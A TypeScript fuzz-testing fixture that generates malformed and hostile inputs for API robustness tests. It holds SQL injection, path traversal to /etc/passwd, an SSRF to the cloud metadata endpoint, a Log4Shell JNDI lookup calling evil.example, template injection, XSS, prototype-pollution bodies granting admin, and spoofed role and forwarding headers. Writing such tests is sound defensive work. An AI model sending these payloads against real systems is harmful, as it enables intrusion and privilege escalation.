import type { Random } from '../storm/random.ts'

/** What nobody means well with. */

const long = 'x'.repeat(5_000)

export const texts: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'a\udfffb',
  '\u202egnp.exe',
  '\ufeff',
  'é',
  'e\u0301',
  '😀'.repeat(60),
  'ﷺ'.repeat(30),
  'İ',
  'ß',
  '\r\nx-injected: 1',
  '\n',
  '\u2028',
  "'; drop table account; --",
  "' or '1'='1",
  '1; select pg_sleep(5)',
  '\\',
  '%',
  '_',
  '%25',
  '%00',
  '%c0%ae%c0%ae/',
  '../../../../etc/passwd',
  '..\\..\\secrets.json',
  '/internal/transfers',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:5022/metrics',
  '//evil.example',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger must not look up.
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '{{serialNumber}}{{#each}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e400',
  '9223372036854775808',
  '99999999999999999999999999999999999999',
  '0x10',
  '1_000',
  '٣',
  '(a+)+$',
  '(',
  '[',
  '$&$1',
  'a'.repeat(101),
  long,
]

export const instants: readonly string[] = [
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '2026-02-30T00:00:00Z',
  '2026-06-30T23:59:60Z',
  '2026-12-31T23:59:60Z',
  '1990-12-31T15:59:60-08:00',
  '2026-01-01T00:00:00+99:99',
  '2026-01-01T00:00:00+14:00',
  '2026-01-01T24:00:00Z',
  '2026-01-01 00:00:00Z',
  '2026-01-01t00:00:00z',
  '2026-01-01T00:00:00.123456789123Z',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-01-01',
  'infinity',
  'now',
  '1738368000',
]

export const numbers: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  1.0000001,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 - 1,
  2 ** 53,
  1e21,
  -1e21,
  1e308,
  5e-324,
]

const uuids: readonly string[] = [
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '01A1FBBC-0000-7000-8000-000000000000',
  '{01a1fbbc-0000-7000-8000-000000000000}',
  'urn:uuid:01a1fbbc-0000-7000-8000-000000000000',
  '01a1fbbc00007000800000000000000',
]

/** Positions as our own cursors carry them, and as no cursor of ours ever would. */
const positions: readonly unknown[] = [
  ...instants,
  ...uuids,
  '01a1fbbc-0000-7000-8000-000000000000',
  '0',
  '-1',
  '2147483648',
  '999999999999999999',
  '-999999999999999999',
  'x',
  '\0',
  '\ud800',
  1,
  null,
  {},
  [],
]

export function cursor(random: Random): string {
  const parts = Array.from({ length: random.int(0, 4) }, () => random.pick(positions))
  const what = random.pick([parts, parts, parts, parts, { 0: 'x' }, 'x', null, 7])
  return Buffer.from(JSON.stringify(what)).toString('base64url')
}

export const text = (random: Random): string =>
  random.chance(0.08) ? random.pick(uuids) : random.chance(0.1) ? random.pick(instants) : random.pick(texts)

/** Any JSON at all. */
export function anything(random: Random, depth = 0): unknown {
  const kind = random.int(0, depth > 3 ? 5 : 8)
  if (kind <= 2) return text(random)
  if (kind === 3) return random.pick(numbers)
  if (kind === 4) return random.chance(0.5)
  if (kind === 5) return null
  if (kind === 6) return Array.from({ length: random.int(0, 5) }, () => anything(random, depth + 1))
  return object(random, depth)
}

function object(random: Random, depth: number): object {
  const entries = Array.from({ length: random.int(0, 5) }, () => [text(random), anything(random, depth + 1)] as const)
  // Object.fromEntries defines __proto__ as a property of its own, as JSON.parse does.
  return Object.fromEntries(entries)
}

const deep = (open: string, close: string, times: number) => open.repeat(times) + close.repeat(times)

/** Bodies that no JSON.stringify makes. */
export function rawBody(random: Random, fitting: string): Buffer {
  const made: readonly (() => string | Buffer)[] = [
    () => '',
    () => fitting.slice(0, Math.max(1, Math.floor(fitting.length / 2))),
    () => `${fitting}garbage`,
    () => `\ufeff${fitting}`,
    () => fitting + fitting,
    () => deep('[', ']', 100_000),
    () => deep('{"a":', '}', 20_000).replace('}', '1}'),
    () => fitting.replace(/\}$/, `${fitting === '{}' ? '' : ','}"deep":${deep('[', ']', 60_000)}}`),
    () => fitting.replace('{', '{"__proto__":{"isAdmin":true},'),
    () => fitting.replace('{', '{"constructor":{"prototype":{"isAdmin":true}},'),
    () => fitting.replace('{', '{"\\u005f_proto__":{"role":"super_admin"},'),
    () => fitting.replaceAll(/:(\d+)/g, ':1e400'),
    () => fitting.replaceAll(/:(\d+)/g, ':-$1'),
    () => fitting.replaceAll(/:(\d+)/g, ':$1.0'),
    () => fitting.replaceAll(/"([^"]{2})/g, '"\\ud800$1'),
    () => Buffer.concat([Buffer.from(fitting.slice(0, -1)), Buffer.from([0xff, 0xfe, 0x00]), Buffer.from('}')]),
    () => Buffer.from(fitting, 'utf16le'),
    () => `{${Array.from({ length: 10_000 }, (_, i) => `"k${i}":${i}`).join(',')}}`,
    () => JSON.stringify({ a: 'x'.repeat(300_000) }),
    () => `"${'x'.repeat(200_000)}"`,
    () => `[${'0,'.repeat(50_000)}0]`,
    () => 'null',
    () => 'true',
    () => '[]',
    () => '{}',
  ]
  return Buffer.from(random.pick(made)() as string)
}

export const contentTypes: readonly (string | undefined)[] = [
  undefined,
  '',
  'text/plain',
  'text/xml',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/json; charset="',
  'application/json;;;',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/merge-patch+json',
  'application/json, text/html',
  'json',
  '*/*',
  'x'.repeat(2_000),
]

/** Headers that lie, or are no use. */
export const headers: readonly Readonly<Record<string, string>>[] = [
  { 'accept-language': 'xx-XX,*;q=0.00001' },
  { 'accept-language': `${'en,'.repeat(500)}id` },
  { 'accept-language': ';;;q=x' },
  { accept: 'text/html' },
  { accept: 'application/xml;q=0' },
  { 'accept-encoding': 'gzip, br, identity;q=0, *;q=0' },
  { traceparent: 'nonsense' },
  { traceparent: `00-${'f'.repeat(32)}-${'f'.repeat(16)}-ff`, tracestate: 'x'.repeat(600) },
  { 'x-request-id': "'; select 1 --" },
  { 'x-request-id': 'x'.repeat(64) },
  { 'x-forwarded-for': "127.0.0.1, '; drop table account" },
  { 'x-forwarded-for': ','.repeat(500) },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'javascript' },
  { 'x-forwarded-prefix': '/../..', 'x-original-url': '/internal/transfers', 'x-rewrite-url': '/internal' },
  { forwarded: 'for=127.0.0.1;host=evil' },
  { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' },
  { 'x-user-id': '01a1fbbc-0000-7000-8000-000000000000', 'x-role': 'super_admin', 'x-caller': 'service:order' },
  { cookie: `session=${'x'.repeat(3_000)}; __proto__=1` },
  { 'if-none-match': '*', 'if-modified-since': 'yesterday', range: 'bytes=0-0' },
  { 'content-encoding': 'gzip' },
  { 'content-encoding': 'br, deflate' },
  { 'last-event-id': '999999999999999999' },
  { 'last-event-id': '-1' },
  { connection: 'close, x-request-id, authorization' },
  { host: 'evil.example' },
  { origin: 'https://evil.example', referer: 'https://evil.example/' },
  { __proto__x: 'y', 'x-long': 'y'.repeat(6_000) },
]

/** Queries, as they stand after the question mark. */
export const queries: readonly string[] = [
  'limit=1&limit=2',
  'limit[]=1',
  'limit=1e2',
  'limit=%201',
  'limit=',
  'limit',
  '=',
  '&&&',
  '?',
  '%',
  '%zz=1',
  'a=%ff%fe',
  '__proto__[x]=1',
  '__proto__=1',
  'constructor.prototype.x=1',
  'unknown=1',
  'cursor=&cursor=',
  `q=${'x'.repeat(3_000)}`,
  'q=%00',
  'q=%ed%a0%80',
  'q=a&q=b',
  'q[$ne]=1',
  'limit=0',
  'limit=101',
  'limit=-1',
  'limit=99999999999999999999',
  'limit=NaN',
  'q=%27%20or%201=1--',
  'q=%25%25%25',
  'q=____',
  Array.from({ length: 300 }, (_, i) => `p${i}=${i}`).join('&'),
]
